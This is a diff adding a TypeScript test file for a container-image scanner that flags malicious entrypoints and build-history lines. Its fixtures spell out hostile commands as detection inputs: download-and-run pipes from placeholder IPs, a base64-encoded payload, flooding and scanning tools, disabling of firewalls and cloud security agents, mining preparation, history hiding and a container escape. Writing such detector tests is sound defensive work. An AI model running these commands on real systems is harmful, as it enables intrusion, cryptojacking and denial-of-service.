@@ -1,0 +1,158 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { ImageConfig } from '../../image/image.ts';
+import type { ImageFinding } from '../detector.ts';
+import { inspectConfiguration } from './inspect.ts';
+
+function inspect(config: Partial<ImageConfig>, history: readonly string[] = []): readonly ImageFinding[] {
+  const full: ImageConfig = {
+    user: 'app',
+    env: [],
+    entrypoint: [],
+    cmd: [],
+    workingDir: '',
+    labels: {},
+    exposedPorts: [],
+    volumes: [],
+    healthcheck: [],
+    onBuild: [],
+    shell: [],
+    author: '',
+    created: '',
+    history: history.map((createdBy, layer) => ({ createdBy, comment: '', created: '', layer })),
+    ...config,
+  };
+  return [...inspectConfiguration({ reference: 'x', config: full }).findings];
+}
+
+const rules = (findings: readonly ImageFinding[]) =>
+  findings.map((one) => `${one.rule.split('/')[1]} ${one.severity}`);
+
+describe('what configuration and history give away', () => {
+  it('takes a download that a container runs for a strong finding, and an official installer in a build for none', () => {
+    const [start] = inspect({ entrypoint: ['/bin/sh', '-c', 'wget -qO- http://198.51.100.7/x | sh'] });
+    assert.equal(start?.rule, 'configuration/download-and-run');
+    assert.ok((start?.confidence ?? 0) >= 0.6 && start?.runs === true);
+    assert.deepEqual([start?.place, start?.key], ['config', 'Entrypoint']);
+
+    const [build] = inspect({}, ['RUN /bin/sh -c curl -fsSL https://get.docker.com | sh # buildkit']);
+    assert.equal(build?.severity, 'info');
+    assert.equal(build?.runs, false);
+    assert.deepEqual([build?.place, build?.key, build?.layer], ['history', 'history[0]', 0]);
+  });
+
+  it('weighs a build line by where it downloads from', () => {
+    const severity = (url: string) => inspect({}, [`/bin/sh -c curl -s ${url} | bash`])[0]?.severity;
+    assert.equal(severity('https://tools.example.com/i.sh'), 'low');
+    assert.equal(severity('http://tools.example.com/i.sh'), 'medium');
+    assert.equal(severity('http://198.51.100.7/i.sh'), 'high');
+    assert.equal(severity('https://pastebin.com/raw/a'), 'high');
+    assert.equal(severity('-k https://tools.example.com/i.sh'), 'medium');
+  });
+
+  it('reads every form of RUN line, and no other instruction', () => {
+    for (const line of [
+      '/bin/sh -c curl -s http://198.51.100.7/x | sh',
+      '|2 A=b C=d /bin/sh -c curl -s http://198.51.100.7/x | sh',
+      'RUN /bin/sh -c curl -s http://198.51.100.7/x | sh # buildkit',
+      'RUN |1 A=b /bin/sh -c curl -s http://198.51.100.7/x | sh # buildkit',
+      '/bin/bash -o pipefail -c curl -s http://198.51.100.7/x | sh',
+      'RUN curl -s http://198.51.100.7/x | sh',
+    ]) {
+      assert.deepEqual(rules(inspect({}, [line])), ['download-and-run high'], line);
+    }
+    assert.deepEqual(
+      inspect({}, ['/bin/sh -c #(nop)  CMD ["sh" "-c" "curl http://198.51.100.7/x | sh"]']),
+      [],
+    );
+  });
+
+  it('shows what a payload decodes to, and its URLs as observables', () => {
+    const encoded = Buffer.from('wget -qO- http://9.9.9.9/m.sh | sh').toString('base64');
+    const config = { cmd: ['sh', '-c', `echo ${encoded}|base64 -d|sh`] };
+    const [finding] = inspect(config);
+    assert.equal(finding?.rule, 'configuration/decoded-payload');
+    assert.match(finding?.excerpt ?? '', /9\.9\.9\.9\/m\.sh/);
+  });
+
+  it('finds command text that only entrypoint and command together make', () => {
+    assert.deepEqual(rules(inspect({ entrypoint: ['sh', '-c'], cmd: ['curl 198.51.100.7/x | sh'] })), [
+      'download-and-run high',
+    ]);
+  });
+
+  it('finds flooders and scanners that a container starts, not load tests of local services', () => {
+    for (const cmd of [
+      ['./db1000n', '-c', 'x'],
+      ['python3', 'start.py', 'UDP', '198.51.100.7:53', '100', '3600'],
+      ['bombardier', '-c', '1000', '-d', '3600s', 'https://www.example.org'],
+      ['hping3', '--flood', '-S', '198.51.100.7'],
+    ]) {
+      assert.deepEqual(rules(inspect({ cmd })), ['flooder high'], cmd.join(' '));
+    }
+    assert.deepEqual(rules(inspect({ cmd: ['masscan', '0.0.0.0/0', '-p2375'] })), ['scanner high']);
+    assert.deepEqual(inspect({ cmd: ['bombardier', '-c', '10', 'http://localhost:8080'] }), []);
+    assert.deepEqual(inspect({ cmd: ['python3', 'start.py', '--port', '80'] }), []);
+  });
+
+  it('finds the preparations of intruders', () => {
+    const cases: readonly (readonly [string, string])[] = [
+      ['setenforce 0', 'protection-off medium'],
+      ['iptables -F', 'protection-off medium'],
+      ['pkill -9 AliYunDun', 'agent-removed high'],
+      ['rm -rf /usr/local/qcloud/YunJing/YDService', 'agent-removed high'],
+      ['sysctl -w vm.nr_hugepages=1280', 'mining-preparation medium'],
+      ['echo 128 > /proc/sys/vm/nr_hugepages', 'mining-preparation medium'],
+      ['modprobe msr allow_writes=on', 'mining-preparation medium'],
+      ['pkill -f kdevtmpfsi', 'rivals-killed high'],
+      ['chattr -ia /etc/crontab', 'immutable-file medium'],
+      ['unset HISTFILE', 'traces-hidden medium'],
+      ['nsenter --target 1 --mount sh', 'escape high'],
+      ['pip install --trusted-host 198.51.100.7 x', 'insecure-install medium'],
+    ];
+    for (const [command, expected] of cases) {
+      assert.deepEqual(
+        rules(inspect({ cmd: ['/bin/sh', '-c', `sudo ${command}; run`] })),
+        [expected],
+        command,
+      );
+    }
+  });
+
+  it('stays quiet on official images', () => {
+    const findings = inspect(
+      {
+        user: '',
+        entrypoint: ['/docker-entrypoint.sh'],
+        cmd: ['nginx', '-g', 'daemon off;'],
+        healthcheck: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'],
+        env: ['PATH=/usr/bin', 'NGINX_VERSION=1.29'],
+      },
+      [
+        '/bin/sh -c #(nop) ADD file:1 in / ',
+        '/bin/sh -c set -x && apt-get update && apt-get install --no-install-recommends -y gnupg1 && for server in hkp://keyserver.ubuntu.com:80; do gpg1 --keyserver "$server" --recv-keys X && break; done && rm -rf /var/lib/apt/lists/*',
+        'RUN /bin/sh -c curl -fsSLO --compressed "https://nodejs.org/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz" && tar -xJf "node-v22.0.0-linux-x64.tar.xz" -C /usr/local --strip-components=1 # buildkit',
+        'RUN /bin/sh -c wget -O /usr/local/bin/gosu "https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64"; chmod +x /usr/local/bin/gosu; gosu --version; gosu nobody true # buildkit',
+        'RUN /bin/sh -c ln -sf /dev/stdout /var/log/nginx/access.log # buildkit',
+      ],
+    );
+    assert.deepEqual(rules(findings), ['runs-as-root info']);
+  });
+
+  it('quotes no credentials', () => {
+    const [finding] = inspect({
+      cmd: ['sh', '-c', 'curl -H "Authorization: Bearer abcdefghijk" https://u:pw1234@x.example.com/i | sh'],
+    });
+    assert.doesNotMatch(finding?.excerpt ?? '', /abcdefghijk|pw1234/);
+    assert.match(finding?.excerpt ?? '', /x\.example\.com/);
+  });
+
+  it('says so when certificates are not verified, and where files are added from', () => {
+    assert.deepEqual(rules(inspect({ env: ['NODE_TLS_REJECT_UNAUTHORIZED=0'] })), [
+      'insecure-setting medium',
+    ]);
+    assert.deepEqual(rules(inspect({}, ['ADD https://x.example.com/a.tgz /opt/ # buildkit'])), [
+      'remote-add info',
+    ]);
+  });
+});
